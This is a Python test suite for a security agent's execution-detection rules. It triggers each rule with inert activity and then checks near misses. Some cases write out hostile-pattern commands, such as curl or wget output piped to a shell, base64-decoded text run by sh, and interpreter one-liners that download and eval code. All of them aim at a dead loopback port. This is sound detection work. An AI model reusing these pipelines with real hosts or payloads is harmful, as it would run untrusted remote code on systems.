"""test_preset_execution.py - the execution pack (presets/execution.yaml) on real kernel events.

For every rule the test performs the activity for real, on this machine, with processes
it starts itself (copies of vg_exec named like the server or scheduler the scenario needs,
real shells, interpreters, curl), and asserts the rule's alert and its key fields; then a
near miss, after which the rule must have said nothing about the test's process. Each
command carries a unique token so alerts are matched to this test's processes only.
Everything created (files in /tmp, /etc, mounts, cgroups) is removed in `finally`.
"""
import base64
import fcntl
import os
import shutil
import subprocess
import sys
import tempfile
import termios
import uuid

sys.path.insert(0, os.path.dirname(__file__))
from harness import (Agent, FakeContainer, Scratch, BUILD, SCRATCH_ROOT, TOP, case, eq,  # noqa: E402
                     require_root, results, run_orphaned)

VG_EXEC = os.path.join(TOP, BUILD, "helpers", "vg_exec")
PY = "/usr/bin/python3"  # the system interpreter: its task name is python3 whatever PATH holds


def token():
    return "vgt" + uuid.uuid4().hex[:10]


def fields(a):
    return a["output_fields"]


def wait_for(agent, rule, tok, field="proc.cmdline"):
    """the alert of `rule` whose `field` mentions `tok`"""
    return agent.wait_alert(rule, lambda a: tok in str(fields(a).get(field, "")))


def assert_quiet(agent, rule, tok, field="proc.cmdline"):
    """after everything so far is processed, `rule` has no alert whose `field` mentions `tok`"""
    agent.sync()
    got = [fields(a).get(field) for a in agent.alerts(rule) if tok in str(fields(a).get(field, ""))]
    eq(got, [], "alerts of '%s' for the near miss" % rule)


def named(s, name, src=VG_EXEC, sub=None):
    """a copy of `src` called `name` in the scratch directory (or a subdirectory of it)"""
    d = os.path.join(s.dir, sub) if sub else s.dir
    os.makedirs(d, exist_ok=True)
    path = os.path.join(d, name)
    shutil.copy(src, path)
    return path


def run(args, check=False, **kw):
    kw.setdefault("capture_output", True)
    kw.setdefault("text", True)
    kw.setdefault("timeout", 20)
    p = subprocess.run(args, **kw)
    if check and p.returncode != 0:
        raise AssertionError("%s failed (%d): %s" % (args, p.returncode, p.stderr))
    return p


def contains(got, want, what):
    if want not in str(got):
        raise AssertionError("%s: %r does not contain %r" % (what, got, want))


@case("preset-execution-web-server-shell")
def t_web_server_shell(agent):
    rule = "Shell Spawned by Web Server"
    s = Scratch()
    try:
        nginx = named(s, "nginx")
        fpm = named(s, "php-fpm8.2")
        mid = named(s, "vgt-" + uuid.uuid4().hex[:8])
        # a shell directly below nginx
        t1 = token()
        run([nginx, "spawn", "/bin/sh", "-c", "true " + t1])
        f = fields(wait_for(agent, rule, t1))
        eq(f["proc.name"], "sh", "proc.name")
        eq(f["proc.pname"], "nginx", "proc.pname")
        eq(f["proc.exepath"], os.path.realpath("/bin/sh"), "proc.exepath")
        # a shell two levels below php-fpm, through a non-shell program
        t2 = token()
        run([fpm, "spawn", mid, "spawn", "/bin/bash", "-c", "true " + t2])
        f = fields(wait_for(agent, rule, t2))
        eq(f["proc.name"], "bash", "proc.name")
        eq(f["proc.pname"], os.path.basename(mid), "proc.pname")
        eq(f["proc.aname[2]"], "php-fpm8.2", "gparent")
        # a shell script run by its path: its task name is the script's, its executable the shell
        script = os.path.join(s.dir, token() + ".sh")
        with open(script, "w") as f:
            f.write("#!/bin/sh\ntrue\n")
        os.chmod(script, 0o755)
        run([nginx, "spawn", script], check=True)
        f = fields(wait_for(agent, rule, script))
        eq(f["proc.name"], os.path.basename(script)[:15], "proc.name")
        eq(f["proc.exepath"], os.path.realpath("/bin/sh"), "proc.exepath")
        # near misses: PHP's mail() running sendmail; a shell below a program that is no server
        t3 = token()
        run([nginx, "spawn", "/bin/sh", "-c", "/usr/sbin/sendmail -t -i " + t3])
        assert_quiet(agent, rule, t3)
        t4 = token()
        run([mid, "spawn", "/bin/sh", "-c", "true " + t4])
        assert_quiet(agent, rule, t4)
    finally:
        s.cleanup()


@case("preset-execution-database-shell")
def t_database_shell(agent):
    rule = "Shell Spawned by Database Server"
    s = Scratch()
    try:
        postgres = named(s, "postgres")
        redis = named(s, "redis-server")
        mid = named(s, "vgt-" + uuid.uuid4().hex[:8])
        t1 = token()
        run([postgres, "spawn", "/bin/sh", "-c", "true " + t1])
        f = fields(wait_for(agent, rule, t1))
        eq(f["proc.name"], "sh", "proc.name")
        eq(f["proc.pname"], "postgres", "proc.pname")
        t2 = token()
        run([redis, "spawn", mid, "spawn", "/bin/dash", "-c", "true " + t2])
        f = fields(wait_for(agent, rule, t2))
        eq(f["proc.name"], "dash", "proc.name")
        eq(f["proc.aname[2]"], "redis-server", "gparent")
        # near miss: a WAL archive command, the shell PostgreSQL runs for its archiver
        t3 = token()
        run([postgres, "spawn", "/bin/sh", "-c", "cp /dev/null %s/wal-%s" % (s.dir, t3)])
        assert_quiet(agent, rule, t3)
    finally:
        s.cleanup()


@case("preset-execution-runtime-or-daemon-shell")
def t_runtime_shell(agent):
    rule = "Shell Spawned by Application Runtime or Service Daemon"
    s = Scratch()
    try:
        java = named(s, "java")
        exim = named(s, "exim4")
        gradle = named(s, "gradle", sub="g")
        # orphans: under 'make test' the test's own ancestry includes make, a build tool
        # the rule rightly ignores
        t1 = token()
        run_orphaned([java, "spawn", "/bin/sh", "-c", "true " + t1])
        f = fields(wait_for(agent, rule, t1))
        eq(f["proc.pname"], "java", "proc.pname")
        t2 = token()
        run_orphaned([exim, "spawn", "/bin/bash", "-c", "true " + t2])
        eq(fields(wait_for(agent, rule, t2))["proc.pname"], "exim4", "proc.pname")
        # near miss: a JVM run by a build tool starting a shell
        t3 = token()
        run_orphaned([gradle, "spawn", java, "spawn", "/bin/sh", "-c", "true " + t3])
        assert_quiet(agent, rule, t3)
    finally:
        s.cleanup()


@case("preset-execution-server-discovery-tool")
def t_server_discovery(agent):
    rule = "Discovery or Transfer Tool Spawned by Server"
    s = Scratch()
    try:
        httpd = named(s, "httpd")
        other = named(s, "vgt-" + uuid.uuid4().hex[:8])
        t1 = token()
        run([httpd, "spawn", "/usr/bin/id", t1])  # "no such user": the exec is what counts
        f = fields(wait_for(agent, rule, t1))
        eq(f["proc.name"], "id", "proc.name")
        eq(f["proc.pname"], "httpd", "proc.pname")
        # near misses: the same tool below another program; another program below the server
        t2 = token()
        run([other, "spawn", "/usr/bin/id", t2])
        assert_quiet(agent, rule, t2)
        t3 = token()
        run([httpd, "spawn", "/usr/bin/true", t3])
        assert_quiet(agent, rule, t3)
    finally:
        s.cleanup()


@case("preset-execution-temp-dir")
def t_temp_dir(agent):
    rule = "Program Run From Temporary Directory"
    s = Scratch()
    tmp = tempfile.mkdtemp(prefix="vgt-", dir="/tmp")
    shm = tempfile.mkdtemp(prefix="vgt-", dir="/dev/shm")
    script = os.path.join("/var/tmp", token() + ".sh")
    try:
        for d in (tmp, shm):
            prog = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper)
            dest = os.path.join(d, os.path.basename(prog))
            shutil.copy(prog, dest)
            run([dest, "exit", "0"], check=True)
            f = fields(wait_for(agent, rule, dest, "proc.exepath"))
            eq(f["proc.exepath"], dest, "proc.exepath")
        # a program run by the dynamic loader: no exec names the file in /tmp
        loaded = os.path.join(tmp, "vgt-" + uuid.uuid4().hex[:8])
        shutil.copy("/usr/bin/true", loaded)
        run(["/lib64/ld-linux-x86-64.so.2", loaded], check=True)
        eq(fields(wait_for(agent, rule, loaded))["proc.name"], "ld-linux-x86-64", "proc.name")
        # a script handed to a shell, and the same script run by its path
        with open(script, "w") as f:
            f.write("#!/bin/sh\ntrue\n")
        run(["sh", script], check=True)
        f = fields(wait_for(agent, rule, script))
        eq(f["proc.name"], "sh", "proc.name")
        os.chmod(script, 0o755)
        run([script, "direct"], check=True)
        f = fields(agent.wait_alert(rule, lambda a: fields(a)["proc.cmdline"].endswith(script + " direct")))
        eq(f["proc.exepath"], os.path.realpath("/bin/sh"), "proc.exepath")
        # the same path written other ways, and relative to /var/tmp as the working directory
        for odd in ("/" + script, "/usr/.." + script, "/./" + script[1:]):
            run(["bash", odd, token()], check=True)
            wait_for(agent, rule, odd)
        rel = token()
        run(["bash", os.path.basename(script), rel], check=True, cwd="/var/tmp")
        eq(fields(wait_for(agent, rule, rel))["proc.cwd"], "/var/tmp", "proc.cwd")
        # near misses: the same program in a directory called tmp that is not a temporary directory;
        # ldd listing the libraries of the program in /tmp (the loader inspects, it does not run it)
        prog = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper, sub="tmp")
        run([prog, "exit", "0"], check=True)
        assert_quiet(agent, rule, prog, "proc.exepath")
        # a project built under /tmp running what it built
        built = os.path.join(tmp, "project", "build", "tests", "vgt-" + uuid.uuid4().hex[:8])
        os.makedirs(os.path.dirname(built))
        shutil.copy(s.helper, built)
        run([built, "exit", "0"], check=True)
        assert_quiet(agent, rule, built, "proc.exepath")
        listed = os.path.join(tmp, "vgt-" + uuid.uuid4().hex[:8])
        shutil.copy("/usr/bin/true", listed)
        run(["ldd", listed], check=True)
        assert_quiet(agent, rule, listed)
        # a shell given code, not a script, in /tmp; a script deeper under /tmp named relative to it
        code = token()
        run(["bash", "-c", "true " + code], check=True, cwd="/tmp")
        assert_quiet(agent, rule, code)
        sub = os.path.join(tmp, "sub")
        os.makedirs(sub)
        with open(os.path.join(sub, "build.sh"), "w") as f:
            f.write("true\n")
        deep = token()
        run(["sh", "sub/build.sh", deep], check=True, cwd=tmp)
        assert_quiet(agent, rule, deep)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
        shutil.rmtree(shm, ignore_errors=True)
        if os.path.exists(script):
            os.unlink(script)
        s.cleanup()


@case("preset-execution-hidden-dir")
def t_hidden_dir(agent):
    rule = "Program Run From Hidden Directory"
    s = Scratch()
    try:
        prog = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper, sub=".cache-x")
        run([prog, "exit", "0"], check=True)
        eq(fields(wait_for(agent, rule, prog, "proc.exepath"))["proc.exepath"], prog, "proc.exepath")
        script = os.path.join(s.dir, ".configrc", token() + ".sh")
        os.makedirs(os.path.dirname(script))
        with open(script, "w") as f:
            f.write("true\n")
        run(["bash", script], check=True)
        eq(fields(wait_for(agent, rule, script))["proc.name"], "bash", "proc.name")
        # near misses: a virtualenv's program, and a path that only looks dotted before normalisation
        venv = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper, sub=".venv/bin")
        run([venv, "exit", "0"], check=True)
        assert_quiet(agent, rule, venv, "proc.exepath")
        plain = named(s, "vgt-" + uuid.uuid4().hex[:8], src=s.helper)
        dotted = os.path.join(s.dir, ".", os.path.basename(plain))
        run([dotted, "exit", "0"], check=True)
        assert_quiet(agent, rule, os.path.basename(plain), "proc.exepath")
    finally:
        s.cleanup()


@case("preset-execution-memfd")
def t_memfd(agent):
    rule = "Fileless Execution From Memory File"
    t1 = token()
    run([VG_EXEC, "memfd-exec", "/usr/bin/true", t1], check=True)
    f = fields(wait_for(agent, rule, t1))
    if not f["proc.exepath"].startswith("memfd:"):
        raise AssertionError("proc.exepath %r is not a memfd" % f["proc.exepath"])
    eq(f["proc.exe"], "/usr/bin/true", "argv0")
    # near miss: the same program run from its file
    t2 = token()
    run([VG_EXEC, "spawn", "/usr/bin/true", t2], check=True)
    assert_quiet(agent, rule, t2)


@case("preset-execution-fd-exec")
def t_fd_exec(agent):
    rule = "Program Executed Through File Descriptor"
    t1 = token()
    run([VG_EXEC, "procfd-exec", "/usr/bin/true", t1], check=True)
    f = fields(wait_for(agent, rule, t1))
    if not f["proc.name"].isdigit():
        raise AssertionError("proc.name %r is not an fd number" % f["proc.name"])
    eq(f["proc.exepath"], "/usr/bin/true", "proc.exepath")
    # fexecve: execveat(fd, "", AT_EMPTY_PATH), which the event names as such
    t3 = token()
    run([sys.executable, "-c", "import os; os.execve(os.open('/usr/bin/true', os.O_RDONLY), ['true', %r], {})" % t3],
        check=True)
    f = fields(wait_for(agent, rule, t3))
    eq(f["evt.type"], "execveat", "evt.type")
    eq(f["proc.exepath"], "/usr/bin/true", "proc.exepath")
    # the dynamic loader handed a /proc/self/fd path
    t4 = token()
    loader = os.path.realpath("/lib64/ld-linux-x86-64.so.2")
    run(["bash", "-c", "exec 3</usr/bin/true; exec %s /proc/self/fd/3 %s" % (loader, t4)], check=True)
    eq(fields(wait_for(agent, rule, t4))["proc.exepath"], loader, "proc.exepath")
    t2 = token()
    run([VG_EXEC, "spawn", "/usr/bin/true", t2], check=True)
    assert_quiet(agent, rule, t2)


@case("preset-execution-container-new-binary")
def t_container_new_binary(agent):
    rule = "New Binary Executed in Container"
    s = Scratch()
    base = os.path.join(s.dir, "ovl")
    merged = os.path.join(base, "merged")
    mounted = []
    box = None
    try:
        os.makedirs(base)
        run(["mount", "-t", "tmpfs", "vgt-ovl", base], check=True)
        mounted.append(base)
        for d in ("lower", "upper", "work", "merged"):
            os.makedirs(os.path.join(base, d))
        image_prog = "vgt-" + uuid.uuid4().hex[:8]
        shutil.copy(s.helper, os.path.join(base, "lower", image_prog))
        run(["mount", "-t", "overlay", "vgt-ovl", "-o", "lowerdir=%s/lower,upperdir=%s/upper,workdir=%s/work" %
             (base, base, base), merged], check=True)
        mounted.append(merged)
        dropped = os.path.join(merged, "vgt-" + uuid.uuid4().hex[:8])
        shutil.copy(s.helper, dropped)  # written through the merged view: it lands in the upper layer
        box = FakeContainer()
        p = box.run([dropped, "exit", "0"])
        eq(p.returncode, 0, "dropped program's status")
        f = fields(wait_for(agent, rule, dropped, "proc.exepath"))
        eq(f["proc.exepath"], dropped, "proc.exepath")
        eq(f["container.id"], box.id[:12], "container.id")
        # near miss: a program of the image (lower layer) run in the same container
        image_path = os.path.join(merged, image_prog)
        eq(box.run([image_path, "exit", "0"]).returncode, 0, "image program's status")
        assert_quiet(agent, rule, image_path, "proc.exepath")
    finally:
        if box:
            box.remove()
        for m in reversed(mounted):
            run(["umount", m])
        s.cleanup()


@case("preset-execution-encoded-payload")
def t_encoded_payload(agent):
    rule = "Encoded Payload Decoded and Executed"
    payload = base64.b64encode(b"true\n").decode()
    t1 = token()
    run(["sh", "-c", "T=%s; echo %s | base64 -d | sh" % (t1, payload)], check=True)
    f = fields(wait_for(agent, rule, t1))
    eq(f["proc.name"], "sh", "proc.name")
    t2 = token()
    run(["bash", "-c", "T=%s; eval \"$(echo %s | base64 --decode)\"" % (t2, payload)], check=True)
    eq(fields(wait_for(agent, rule, t2))["proc.name"], "bash", "proc.name")
    t3 = token()
    code = base64.b64encode(b"pass").decode()
    run([PY, "-c", "import base64; exec(base64.b64decode('%s'))  # %s" % (code, t3)], check=True)
    eq(fields(wait_for(agent, rule, t3))["proc.name"], "python3", "proc.name")
    # the decoded text handed on through xargs, and to whatever $SHELL is
    t6 = token()
    run(["sh", "-c", "T=%s; echo %s | base64 -d | xargs -0 sh -c" % (t6, payload)], check=True)
    wait_for(agent, rule, t6)
    t7 = token()
    run(["bash", "-c", "T=%s; echo %s | base64 -d | $SHELL" % (t7, payload)], check=True, env=dict(os.environ, SHELL="/bin/sh"))
    wait_for(agent, rule, t7)
    # near misses: decoding without running the result, in a shell and in python
    t4 = token()
    run(["sh", "-c", "T=%s; echo %s | base64 -d >/dev/null" % (t4, payload)], check=True)
    assert_quiet(agent, rule, t4)
    t5 = token()
    run([PY, "-c", "import base64; print(base64.b64decode('%s'))  # %s" % (code, t5)], check=True)
    assert_quiet(agent, rule, t5)


@case("preset-execution-remote-script-to-shell")
def t_remote_script(agent):
    rule = "Remote Script Piped to Shell"
    # port 9 on loopback has no listener: the download fails at once, the pipeline is the point
    t1 = token()
    run(["sh", "-c", "T=%s; curl -s --max-time 2 http://127.0.0.1:9/install.sh | sh" % t1])
    eq(fields(wait_for(agent, rule, t1))["proc.name"], "sh", "proc.name")
    t2 = token()
    run(["bash", "-c", "T=%s; bash -c \"$(wget -q -T 2 -O- http://127.0.0.1:9/x)\"" % t2])
    eq(fields(wait_for(agent, rule, t2))["proc.name"], "bash", "proc.name")
    t4 = token()
    run(["sh", "-c", "T=%s; curl -s --max-time 2 http://127.0.0.1:9/x | xargs -I{} sh -c {}" % t4])
    wait_for(agent, rule, t4)
    # near miss: the same download saved to a file
    t3 = token()
    run(["sh", "-c", "T=%s; curl -s --max-time 2 -o /dev/null http://127.0.0.1:9/install.sh" % t3])
    assert_quiet(agent, rule, t3)


@case("preset-execution-interpreter-download-and-run")
def t_interpreter_download_run(agent):
    rule = "Interpreter One-Liner Downloading and Running Code"
    t1 = token()
    run([PY, "-c", "import urllib.request as u\ntry:\n exec(u.urlopen('http://127.0.0.1:9/').read())\n"
         "except OSError:\n pass\n# " + t1], check=True)
    eq(fields(wait_for(agent, rule, t1))["proc.name"], "python3", "proc.name")
    t2 = token()
    run(["perl", "-MHTTP::Tiny", "-e", "eval HTTP::Tiny->new->get('http://127.0.0.1:9/')->{content}; # " + t2],
        check=True)
    eq(fields(wait_for(agent, rule, t2))["proc.name"], "perl", "proc.name")
    t3 = token()
    run(["node", "-e", "require('http').get('http://127.0.0.1:9/', r => eval(r.read())).on('error', e => 0) // "
         + t3], check=True)
    eq(fields(wait_for(agent, rule, t3))["proc.name"], "node", "proc.name")
    # near miss: a download that is only printed
    t4 = token()
    run([PY, "-c", "import urllib.request as u\ntry:\n print(u.urlopen('http://127.0.0.1:9/').read())\n"
         "except OSError:\n pass\n# " + t4], check=True)
    assert_quiet(agent, rule, t4)


@case("preset-execution-interpreter-network")
def t_interpreter_network(agent):
    rule = "Interpreter One-Liner With Network or Process Access"
    t1 = token()
    run(["perl", "-MIO::Socket::INET", "-e",
         "IO::Socket::INET->new(PeerAddr => '127.0.0.1:9', Timeout => 2); # " + t1], check=True)
    eq(fields(wait_for(agent, rule, t1))["proc.name"], "perl", "proc.name")
    t2 = token()
    run([PY, "-c", "import socket\ntry:\n socket.create_connection(('127.0.0.1', 9), 2)\nexcept OSError:\n pass\n# "
         + t2], check=True)
    eq(fields(wait_for(agent, rule, t2))["proc.name"], "python3", "proc.name")
    t4 = token()
    run(["node", "-e", "require('child_process').execSync('true') // " + t4], check=True)
    eq(fields(wait_for(agent, rule, t4))["proc.name"], "node", "proc.name")
    # near miss: urllib used for text only
    t3 = token()
    run([PY, "-c", "import urllib.parse; print(urllib.parse.quote('a b'))  # " + t3], check=True)
    assert_quiet(agent, rule, t3)


def run_on_pty(args):
    """run `args` with a new pseudo-terminal as its controlling terminal"""
    master, slave = os.openpty()

    def own_tty():
        os.setsid()
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)
    try:
        p = subprocess.Popen(args, stdin=slave, stdout=slave, stderr=slave, preexec_fn=own_tty)
        os.close(slave)
        slave = -1
        while True:  # drain the terminal until the shell is gone
            try:
                if not os.read(master, 4096):
                    break
            except OSError:
                break
        return p.wait(20)
    finally:
        if slave >= 0:
            os.close(slave)
        os.close(master)


@case("preset-execution-interactive-shell-no-tty")
def t_interactive_no_tty(agent):
    rule = "Interactive Shell Without Terminal"
    t1 = token()
    run(["bash", "-i", "-c", "true " + t1], start_new_session=True, stdin=subprocess.DEVNULL)
    f = fields(wait_for(agent, rule, t1))
    eq(f["proc.name"], "bash", "proc.name")
    eq(f["proc.tty"], 0, "proc.tty")
    t2 = token()
    run(["sh", "-il", "-c", "true " + t2], start_new_session=True, stdin=subprocess.DEVNULL)
    eq(fields(wait_for(agent, rule, t2))["proc.name"], "sh", "proc.name")
    t5 = token()
    run(["busybox", "sh", "-i", "-c", "true " + t5], start_new_session=True, stdin=subprocess.DEVNULL)
    eq(fields(wait_for(agent, rule, t5))["proc.name"], "busybox", "proc.name")
    # near misses: the same shell on a terminal; -i given to a command, not to the shell
    t3 = token()
    run_on_pty(["bash", "-i", "-c", "true " + t3])
    assert_quiet(agent, rule, t3)
    t4 = token()
    run(["bash", "-c", "grep -i %s /dev/null" % t4], start_new_session=True)
    assert_quiet(agent, rule, t4)


@case("preset-execution-etc-binary")
def t_etc_binary(agent):
    rule = "Program Run From /etc or /proc"
    s = Scratch()
    prog = os.path.join("/etc", "vgt-" + uuid.uuid4().hex[:8])
    try:
        shutil.copy(s.helper, prog)
        run([prog, "exit", "0"], check=True)
        eq(fields(wait_for(agent, rule, prog, "proc.exepath"))["proc.exepath"], prog, "proc.exepath")
        # near miss: a program reached through a symlink in /etc (alternatives) lives in /usr/bin
        t = token()
        run(["/etc/alternatives/awk", "BEGIN { exit }", t], check=True)
        assert_quiet(agent, rule, t)
    finally:
        if os.path.exists(prog):
            os.unlink(prog)
        s.cleanup()


@case("preset-execution-scheduled-temp-job")
def t_scheduled_temp(agent):
    rule = "Scheduled Job Running Program From Temporary Directory"
    s = Scratch()
    script = os.path.join("/tmp", token() + ".sh")
    try:
        cron = named(s, "cron")
        with open(script, "w") as f:
            f.write("true\n")
        run([cron, "spawn", "/bin/sh", script], check=True)
        f = fields(wait_for(agent, rule, script))
        eq(f["proc.name"], "sh", "proc.name")
        eq(f["proc.pname"], "cron", "proc.pname")
        # near miss: a cron job that stays out of temporary directories
        t = token()
        run([cron, "spawn", "/bin/sh", "-c", "true " + t], check=True)
        assert_quiet(agent, rule, t)
    finally:
        if os.path.exists(script):
            os.unlink(script)
        s.cleanup()


TESTS = (t_web_server_shell, t_database_shell, t_runtime_shell, t_server_discovery, t_temp_dir, t_hidden_dir,
         t_memfd, t_fd_exec, t_container_new_binary, t_encoded_payload, t_remote_script,
         t_interpreter_download_run, t_interpreter_network, t_interactive_no_tty, t_etc_binary, t_scheduled_temp)


def main():
    require_root()
    # the harness's marker programs go to the temporary directory; keep them out of /tmp,
    # which this pack watches
    os.makedirs(SCRATCH_ROOT, exist_ok=True)
    agent = Agent("--json", "--preset", "all", marker=True)
    try:
        for t in TESTS:
            t(agent)
    finally:
        agent.stop()
    return 0 if results["fail"] == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
